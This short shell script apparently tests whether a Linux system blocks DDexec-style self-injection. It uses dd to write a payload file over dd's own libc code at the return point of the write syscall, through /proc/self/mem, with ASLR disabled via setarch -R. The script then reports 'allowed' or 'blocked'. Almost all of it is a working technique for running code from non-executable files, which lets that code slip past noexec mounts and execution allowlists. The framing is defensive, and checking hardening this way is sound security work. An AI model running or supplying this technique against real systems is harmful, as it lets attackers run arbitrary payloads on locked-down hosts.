#!/bin/sh
# DDexec-style self-injection: dd writes PAYLOAD (a file without exec
# permission) over its own libc code, right where write(2) returns, through
# /proc/self/mem; when the write returns, dd runs the payload.  ASLR is
# turned off (setarch -R) so that a first dd can read the layout a second
# dd will have.  Last line: "=> allowed: ..." or "=> blocked: ...".
set -eu
payload=$1 libc=/lib/x86_64-linux-gnu/libc.so.6 marker=/tmp/compat-pwned
w=$(nm -D "$libc" | awk '$3 == "write@@GLIBC_2.2.5" { print $1 }')
ret=$(objdump -d --start-address="0x$w" --stop-address=$((0x$w + 64)) "$libc" |
	awk '$NF == "syscall" { sub(":", "", $1); print $1; exit }')
base=$(setarch -R dd if=/proc/self/maps status=none |
	awk '$6 ~ /\/libc\.so\.6$/ && $3 == "00000000" { sub("-.*", "", $1); print $1; exit }')
addr=$((0x$base + 0x$ret + 2))
rm -f "$marker"
rc=0
err=$(setarch -R dd if="$payload" of=/proc/self/mem bs="$(stat -c %s "$payload")" count=1 \
	seek="$addr" oflag=seek_bytes conv=notrunc status=none 2>&1) || rc=$?
if [ "$rc" = 42 ] && [ "$(cat "$marker" 2>/dev/null)" = pwned ]; then
	echo "=> allowed: dd ran the payload (exit 42, marker written)"
else
	echo "=> blocked: dd exit $rc: $err"
fi
